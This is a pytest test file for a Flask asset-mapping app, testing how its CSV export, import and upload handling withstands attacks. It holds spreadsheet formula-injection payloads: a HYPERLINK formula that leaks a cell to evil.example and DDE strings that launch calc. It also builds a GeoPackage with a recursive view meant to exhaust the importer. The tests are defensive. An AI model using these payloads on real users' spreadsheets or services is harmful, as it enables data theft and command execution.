"""Attacks on imports, exports and uploads, each carried out as the attacker would."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import time
from pathlib import Path

import geopandas as gpd
import osmium
import pyogrio
import pytest
import shapely
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient
from osmium.osm.mutable import Node

from assetmap import create_app
from assetmap.storage.models import Asset
from assetmap.web import db
from tests.web.helpers import (
    add_asset,
    confirm,
    count,
    csrf,
    export,
    published_check,
    signed_in,
    text,
    upload,
)

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "description": "+cmd|' /C calc'!A0",
    "availability": "-2+3+cmd|' /C calc'!A0",
    "accessibility": "@SUM(1+1)*cmd|' /C calc'!A0",
    "meeting_pattern": "=1+1",
    "tags": ["=1+2", "soup"],
}
NUMBER_COLUMNS = {"id", "capacity", "lon", "lat", "distance_m"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV = b"kind,title,themes,lon,lat\ngroup,Tuesday knitters,arts,-2.32,51.23\n"
MB = 1024 * 1024


@pytest.fixture
def app(demo_register: Flask) -> Flask:
    return demo_register


@pytest.fixture
def planner(app: Flask) -> FlaskClient:
    return signed_in(app, "planner", "planner-user@example.org")


def csv_rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


def runnable_cells(rows: list[dict[str, str]]) -> list[tuple[str, str]]:
    return [
        (name, cell)
        for row in rows
        for name, cell in row.items()
        if name not in NUMBER_COLUMNS and cell.startswith(TRIGGERS)
    ]


def pending_files(app: Flask) -> list[Path]:
    folder = Path(app.instance_path) / "imports"
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def test_formulas_in_a_strength_reach_the_exported_csv_as_text_a_spreadsheet_shows(
    app: Flask, planner: FlaskClient
) -> None:
    add_asset(app, **FORMULAS)
    response = export(planner, format="csv")
    rows = csv_rows(response.get_data(as_text=True))
    mine = next(row for row in rows if row["title"].endswith('"Open")'))
    assert runnable_cells(rows) == []
    assert mine["title"] == "'" + FORMULAS["title"]
    assert mine["tags"] == "'=1+2,soup"
    assert float(mine["lon"]) < 0 and mine["lon"].startswith("-")


def test_formulas_in_a_list_column_of_a_checks_findings_csv_are_text(
    app: Flask, planner: FlaskClient
) -> None:
    add_asset(app, **{**FORMULAS, "themes": ["food"]})
    check_id = published_check(app, planner)
    body = app.test_client().get(f"/checks/{check_id}/findings.csv").get_data(as_text=True)
    rows = csv_rows(body)
    mine = next(row for row in rows if row["title"].endswith('"Open")'))
    assert runnable_cells(rows) == []
    assert mine["tags"] == "'=1+2; soup"
    assert float(mine["lon"]) < 0


def test_an_exported_csv_with_formulas_imports_back_as_the_text_that_was_written(
    app: Flask, planner: FlaskClient
) -> None:
    add_asset(app, **FORMULAS)
    rows = csv_rows(export(planner, format="csv").get_data(as_text=True))
    mine = next(row for row in rows if row["title"].endswith('"Open")'))
    columns = ["kind", "title", "description", "availability", "accessibility", "themes", "tags"]
    columns += ["meeting_pattern", "lon", "lat"]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    writer.writerow([mine[name] for name in columns[:-2]] + ["-2.3", "51.2301"])
    page = text(upload(planner, out.getvalue().encode(), "again.csv").get_data(as_text=True))
    assert "Import: add 1" in page
    assert FORMULAS["title"] in page and "'" + FORMULAS["title"] not in page


def endless_gpkg(path: Path, rows: int) -> Path:
    """Write a GeoPackage whose first layer is a recursive view over its one feature."""
    frame = gpd.GeoDataFrame(
        {"kind": ["group"], "title": ["Knitters"], "themes": ["arts"]},
        geometry=[shapely.Point(-2.32, 51.23)],
        crs="EPSG:4326",
    )
    pyogrio.write_dataframe(frame, path, layer="assets", driver="GPKG")
    with sqlite3.connect(path) as connection:
        connection.executescript(
            f"""
            CREATE VIEW endless AS
              WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {rows})
              SELECT n.i AS fid, a.kind, a.title || ' ' || n.i AS title, a.themes, a.geom
              FROM n, assets AS a;
            DELETE FROM gpkg_contents WHERE table_name = 'assets';
            INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id)
              VALUES ('endless', 'features', 'endless', 4326),
                     ('assets', 'features', 'assets', 4326);
            INSERT INTO gpkg_geometry_columns VALUES ('endless', 'geom', 'POINT', 4326, 0, 0);
            """
        )
    connection.close()
    return path


def test_a_geopackage_whose_layer_is_a_recursive_view_is_refused_unread(
    app: Flask, planner: FlaskClient, tmp_path: Path
) -> None:
    # Bounded, so that a view read again fails this test rather than running forever.
    path = endless_gpkg(tmp_path / "places.gpkg", rows=200_000)
    assert path.stat().st_size < 100 * 1024
    response = upload(planner, path.read_bytes(), "places.gpkg")
    page = text(response.get_data(as_text=True))
    assert response.status_code == 400
    assert "layer 'endless' is a view, not a table" in page
    assert count(app, Asset) == 340


def test_a_geopackage_with_more_features_than_an_import_may_read_is_refused_unread(
    app: Flask, planner: FlaskClient, tmp_path: Path
) -> None:
    app.config["IMPORT_MAX_ROWS"] = 5
    frame = gpd.GeoDataFrame(
        {"kind": ["group"] * 6, "title": [f"Club {i}" for i in range(6)], "themes": ["arts"] * 6},
        geometry=[shapely.Point(-2.32 + i / 1000, 51.23) for i in range(6)],
        crs="EPSG:4326",
    )
    frame.to_file(tmp_path / "clubs.gpkg")
    response = upload(planner, (tmp_path / "clubs.gpkg").read_bytes(), "clubs.gpkg")
    page = text(response.get_data(as_text=True))
    assert response.status_code == 400
    assert "holds 6 rows or features, more than the 5 an import may read" in page
    assert "Club 0" not in page


def test_a_csv_with_more_rows_than_an_import_may_read_is_refused(
    app: Flask, planner: FlaskClient
) -> None:
    app.config["IMPORT_MAX_ROWS"] = 5
    rows = b"".join(b"group,Club %d,arts,-2.32,51.23\n" % i for i in range(6))
    response = upload(planner, b"kind,title,themes,lon,lat\n" + rows, "clubs.csv")
    page = text(response.get_data(as_text=True))
    assert response.status_code == 400
    assert "holds more than the 5 rows or features an import may read" in page


def test_an_import_limit_that_is_not_a_whole_number_stops_the_app_starting(
    tmp_path: Path,
) -> None:
    with pytest.raises(ValueError, match="ASSETMAP_IMPORT_MAX_ROWS must be a whole number"):
        create_app(
            {
                "TESTING": True,
                "DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}",
                "SECRET_KEY": "test",
                "IMPORT_MAX_ROWS": "lots",
            }
        )


def osm_extract(path: Path) -> bytes:
    writer = osmium.SimpleWriter(str(path))
    writer.add_node(
        Node(id=1, location=(-2.3185, 51.2305), tags={"amenity": "library", "name": "Library"})
    )
    writer.close()
    return path.read_bytes()


@pytest.mark.parametrize("name", ["town.osm", "town.osm.pbf"])
def test_an_openstreetmap_extract_uploaded_through_the_page_is_read(
    planner: FlaskClient, tmp_path: Path, name: str
) -> None:
    response = upload(planner, osm_extract(tmp_path / name), name)
    page = text(response.get_data(as_text=True))
    assert response.status_code == 200
    assert "Import: add 1, update 0" in page and "Library" in page


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (bytes(range(256)) * 8, "places.gpkg"),
        (b"SQLite format 3\x00" + bytes(500), "places.gpkg"),
        (b"\x00\x00\x00\x0d\nOSMHeader" + bytes(100), "town.osm.pbf"),
        (b"<osm><node id='1' lat=", "town.osm"),
        (b"<osm version='0.6'><node id='1' lat='x' lon='y'/></osm>", "town"),
        (b'{"type": "FeatureCollection", "features": [{"type": "Feature"', "x.geojson"),
        (b'{"organizations": {"name": 1}}', "x.json"),
        (b"kind,title\n\xff\xfe\x00garbage", "x.csv"),
        (bytes(range(256)), "x.bin"),
    ],
)
def test_no_message_about_a_broken_upload_shows_where_the_server_keeps_files(
    app: Flask, planner: FlaskClient, data: bytes, name: str
) -> None:
    response = upload(planner, data, name)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "Nothing can be imported from this file yet" in page
    assert app.instance_path not in page and str(Path(app.instance_path).resolve()) not in page
    assert "imports/" not in page and "/tmp" not in page


def send_large_upload(client: FlaskClient, size: int = 30 * MB) -> tuple[int, str, int]:
    """Send a multipart body of ``size`` bytes; return the status, where it redirects, and
    how many bytes of the body the app read."""
    head = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
    body = io.BytesIO(head + b"a" * (size - len(head)))
    response = client.post(
        "/exchange/import", input_stream=body, content_type="multipart/form-data; boundary=x"
    )
    return response.status_code, response.headers.get("Location", ""), body.tell()


def test_a_visitors_large_upload_is_sent_to_sign_in_without_being_read(app: Flask) -> None:
    status, location, read = send_large_upload(app.test_client())
    assert (status, read) == (302, 0)
    assert "/sign-in" in location
    assert pending_files(app) == []


def test_a_residents_large_upload_is_refused_without_being_read(app: Flask) -> None:
    resident = signed_in(app, "resident", "resident-user@example.org")
    status, _, read = send_large_upload(resident)
    assert (status, read) == (403, 0)
    assert pending_files(app) == []


def test_a_planner_keeps_one_pending_upload_however_many_they_check(
    app: Flask, planner: FlaskClient
) -> None:
    for i in range(3):
        assert upload(planner, CSV.replace(b"Tuesday", b"Day %d" % i), "g.csv").status_code == 200
    assert len(pending_files(app)) == 1
    assert confirm(planner).status_code == 302
    with app.app_context(), db.database().session() as session:
        newest = session.scalar(sa.select(Asset.title).order_by(Asset.id.desc()).limit(1))
    assert (newest, count(app, Asset)) == ("Day 2 knitters", 341)


def test_a_confirmed_upload_is_deleted(app: Flask, planner: FlaskClient) -> None:
    page = upload(planner, CSV, "g.csv").get_data(as_text=True)
    assert len(pending_files(app)) == 1
    assert (
        planner.post("/exchange/import/confirm", data={"csrf_token": csrf(page)}).status_code == 302
    )
    assert pending_files(app) == []
    assert count(app, Asset) == 341


def test_a_cancelled_upload_is_deleted_and_cannot_be_confirmed(
    app: Flask, planner: FlaskClient
) -> None:
    page = upload(planner, CSV, "g.csv").get_data(as_text=True)
    assert "Cancel: do not import" in page
    response = planner.post("/exchange/import/cancel", data={"csrf_token": csrf(page)})
    assert response.status_code == 302
    assert pending_files(app) == []
    assert "no longer keeps it" in planner.get("/exchange").get_data(as_text=True)
    confirm(planner)
    assert "That upload has expired" in planner.get("/exchange").get_data(as_text=True)
    assert count(app, Asset) == 340


def test_a_file_that_cannot_be_imported_is_not_kept(app: Flask, planner: FlaskClient) -> None:
    assert upload(planner, CSV + b"group,,arts,-2.32,51.23\n", "g.csv").status_code == 400
    assert pending_files(app) == []


def test_an_upload_left_unconfirmed_for_a_day_is_deleted_by_the_next_upload(
    app: Flask, planner: FlaskClient
) -> None:
    upload(planner, CSV, "g.csv")
    [left] = pending_files(app)
    a_day_ago = time.time() - 24 * 3600 - 60
    os.utime(left, (a_day_ago, a_day_ago))
    other = signed_in(app, "planner", "other-planner@example.org")
    upload(other, CSV, "h.csv")
    assert left not in pending_files(app) and len(pending_files(app)) == 1
